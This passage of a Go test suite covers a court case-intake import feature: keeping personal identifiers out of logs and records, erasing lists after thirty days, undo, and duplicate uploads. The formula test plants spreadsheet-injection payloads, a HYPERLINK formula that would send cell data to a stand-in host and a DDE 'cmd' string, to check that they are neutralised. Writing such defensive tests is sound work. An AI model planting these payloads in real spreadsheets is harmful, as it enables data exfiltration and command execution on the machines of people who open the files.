			row(2, "知识产权审判庭", "买卖合同纠纷", "简易程序", "2026-02-09", phone, "原告", "原七", id, phone, "某街道") +
			row(3, id, "买卖合同纠纷", "简易程序", "2026-02-09", id, "原告", "原七", id, phone, "某街道") +
			row(4, "知识产权审判庭", "买卖合同纠纷", id, phone, "周明远", id, "原七", wrong, phone[:9], "某街道") +
			row(5, "知识产权审判庭", "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "另一个名字", id, phone, "某街道") +
			id + ",知识产权审判庭,买卖合同纠纷,简易程序,2026-02-09,周明远,原告,原七," + id + "," + phone + ",某街道\n"
		batch := h.list(list)
		said := h.get("郭正", "/intake/"+batch).body + h.get("郭正", "/intake/"+batch+"/report?form=csv").body + h.get("郭正", "/api/v1/intake/"+batch).body
		h.confirm(batch)
		h.Kit.Fail = func(tx *db.Tx) error { return errFault } // what fails is logged
		_ = h.Kit.Jobs.Drain(t.Context())
		h.Kit.Fail = nil
		jobs := h.rowsText(`SELECT kind || lane || body || error FROM jobs_job`)
		h.clock.Add(time.Hour)
		h.drain()
		r := h.report(batch)
		if r.Counts["created"] != 1 || r.Counts["wrong"] != 5 {
			t.Errorf("%v %+v", r.Counts, r.Items)
		}
		said += h.upload("郭正", "/intake", nil, "list", "名单.csv", []byte(id+","+phone+"\n")).must(t, "a list without a head", 422).body
		h.post("郭正", "/intake/"+batch+"/undo", nil).must(t, "undo", 200)
		h.drain()
		said += h.get("郭正", "/intake/"+batch).body
		all, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		var rows strings.Builder
		for _, table := range all {
			rows.WriteString(strings.Join(table, "\n"))
		}
		if h.log.Len() < 200 || !strings.Contains(h.log.String(), "intake.carry") || !strings.Contains(jobs, "intake.") {
			t.Fatal("nothing was looked at")
		}
		for what, text := range map[string]string{"log": h.log.String(), "figures": h.get("", "/metrics").body, "answers": said, "jobs": jobs, "database": rows.String()} {
			for _, secret := range []string{id, phone, wrong} {
				if strings.Contains(text, secret) {
					i := strings.Index(text, secret)
					t.Errorf("%s stands in the %s: %s", secret, what, text[max(0, i-200):min(len(text), i+40)])
				}
			}
		}
	})
}

// TestImportErased: after thirty days nothing is left of a list but what became
// of it; one whose upload was sent twice is not kept at all.
func TestImportErased(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		carried, tried := h.imported(listOf(1, 2)), h.list(listOf(3, 4))
		if n := h.files(); n < 2 {
			t.Fatalf("%d files", n)
		}
		digests := strings.Split(h.rowsText(`SELECT digest FROM intake_batch`), "\n")
		has := func(want bool) {
			t.Helper()
			for _, d := range digests {
				f, err := h.Kit.Blob.Open(t.Context(), d)
				if err == nil {
					_ = f.Close()
				}
				if (err == nil) != want {
					t.Errorf("%s: %v, want it there: %v", d, err, want)
				}
			}
		}
		has(true)
		sealed := func() int { return h.rows(`SELECT COUNT(*) FROM intake_item WHERE record <> ''`) }
		if n := sealed(); n != 2 { // of what is done nobody needs to know it twice
			t.Errorf("%d records are kept", n)
		}
		h.clock.Add(30*24*time.Hour - time.Minute)
		h.drain()
		has(true)
		h.clock.Add(2 * time.Minute)
		h.drain()
		has(false)
		if n := sealed(); n != 0 {
			t.Errorf("%d records are left", n)
		}
		h.states("done: created 2", h.report(carried))
		h.states("spent: new 2", h.report(tried))
		page := h.get("郭正", "/intake/"+tried).body
		if strings.Contains(page, "确认导入") || !strings.Contains(page, "三十天后已经清除") {
			t.Error("the page offers what is erased")
		}
		h.post("郭正", "/intake/"+tried+"/confirm", nil).must(t, "confirm what is erased", 409)
		if n := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind = 'intake.erased'`); n != 2 {
			t.Errorf("%d entries", n)
		}
		// An import of long ago can still be taken back.
		h.post("郭正", "/intake/"+carried+"/undo", nil).must(t, "undo", 200)
		h.drain()
		if r := h.report(carried); r.Counts["withdrawn"]+r.Counts["kept"] != 2 {
			t.Errorf("%v", r.Counts)
		}

		files := h.files()
		b, kind := h.multipart(nil, "list", "名单.csv", []byte(listOf(5, 5)))
		var codes []int
		for range 2 {
			r := h.request("郭正", "/intake", b, kind)
			r.Header.Set("Idempotency-Key", "the same page")
			codes = append(codes, h.send("郭正", r).code)
		}
		if n := h.rows(`SELECT COUNT(*) FROM intake_batch`); n != 3 || h.files() != files+1 {
			t.Errorf("sent twice: %v, %d imports, %d files more", codes, n, h.files()-files)
		}
	})
}

// TestImportFormulas: what a spreadsheet takes for a formula comes out of it as
// words.
func TestImportFormulas(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	evil := `=HYPERLINK("http://evil.example/?"&A1)`
	book := excelize.NewFile()
	for c, name := range strings.Split(listHead+","+evil, ",") {
		at, _ := excelize.CoordinatesToCellName(c+1, 1)
		if err := book.SetCellStr("Sheet1", at, name); err != nil {
			t.Fatal(err)
		}
	}
	for r, cells := range [][]string{
		{"（2026）冀11民初1号", "@SUM(1)", "-2+3", "简易程序", "2026-02-09", "+cmd|' /C calc'!A0", "原告", evil, "1", "1", evil},
		{evil, evil, evil, evil, evil, evil, evil, evil, evil, evil, evil},
	} {
		for c, v := range cells {
			at, _ := excelize.CoordinatesToCellName(c+1, r+2)
			if err := book.SetCellStr("Sheet1", at, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	for at, f := range map[string]string{"A4": "A2", "H4": `HYPERLINK("http://evil.example")`} { // real ones
		if err := book.SetCellFormula("Sheet1", at, f); err != nil {
			t.Fatal(err)
		}
	}
	content, err := book.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	batch := h.list(content.String())
	if r := h.report(batch); r.Counts["wrong"] != r.Counts["all"] || r.Counts["all"] < 2 {
		t.Errorf("%v", r.Counts)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(h.get("郭正", "/intake/"+batch+"/report?form=csv").body, "\ufeff"))).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t") {
				t.Errorf("the report has %q", c)
			}
		}
	}
	for _, path := range []string{"/intake/" + batch + "/report", "/intake/template"} {
		f, err := excelize.OpenReader(strings.NewReader(h.get("郭正", path).must(t, path, 200).body))
		if err != nil {
			t.Fatal(err)
		}
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil || len(rows) == 0 {
				t.Fatalf("%s: %d rows, %v", sheet, len(rows), err)
			}
			for r := range rows {
				for c := range rows[r] {
					at, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if formula, err := f.GetCellFormula(sheet, at); err != nil || formula != "" {
						t.Errorf("%s %s: formula %q, %v", sheet, at, formula, err)
					}
				}
			}
		}
	}
}

// TestImportTemplate: the empty list comes back as it is given out, and every
// column of it is known and explained.
func TestImportTemplate(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	body := h.get("郭正", "/intake/template").must(t, "template", 200).body
	has(t, "the empty list", h.upload("郭正", "/intake", nil, "list", "空表.xlsx", []byte(body)).must(t, "sent back", 422).body, "只有标题，没有内容")
	f, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	head, err := f.GetRows("案件")
	if err != nil {
		t.Fatal(err)
	}
	help, err := f.GetRows("填写说明")
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range head[0] {
		if help[i+1][0] != c || len(help[i+1]) < 2 {
			t.Errorf("column %q is not explained: %q", c, help[i+1])
		}
	}
	values := map[string]string{"案号": "（2026）冀11民初1号", "承办部门": "知识产权审判庭", "案由": "买卖合同纠纷", "诉讼请求": "还钱", "标的额": "86400.00", "程序": "普通程序", "公开范围": "不公开",
		"收件日期": "2026年1月5日", "立案日期": "2026/1/8", "承办法官": "周明远", "法官助理": "陈助", "书记员": "李倩", "状态": "已结", "扣除天数": "3", "延长月数": "1", "结案日期": "20260220", "结案方式": "判决", "结案案由": "买卖合同纠纷",
		"诉讼地位": "原告", "当事人": "原一", "类别": "自然人", "证件类型": "居民身份证", "证件号码": plaintiff(1).id, "手机号": plaintiff(1).phone, "地址": "某街道",
		"代理人": "刘律师", "代理人类别": "律师", "代理人证件号码": plaintiff(2).id, "代理人手机号": plaintiff(2).phone, "代理人单位": "某所", "特别授权": "承认诉讼请求、进行和解"}
	for c, name := range head[0] {
		at, _ := excelize.CoordinatesToCellName(c+1, 2)
		if err := f.SetCellStr("案件", at, values[name]); err != nil {
			t.Fatal(err)
		}
	}
	out, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	r := h.report(h.imported(out.String()))
	if r.Counts["created"] != 1 {
		t.Fatalf("%+v", r)
	}
	c := h.caseOf(r.Items[0].Case)
	if c.Filed != mustDate("2026-01-08") || c.Received != mustDate("2026-01-05") || c.State != docket.Closed || c.ClosedOn != mustDate("2026-02-20") || c.Amount != 8640000 || c.Secrecy != docket.Private || c.Excluded != 3 || c.Extended != 1 {
		t.Errorf("%+v", c)
	}
	has(t, "the judge's page", h.get("周明远", "/api/v1/casebook/"+c.ID).body, "刘律师", "李倩", "陈助")
}
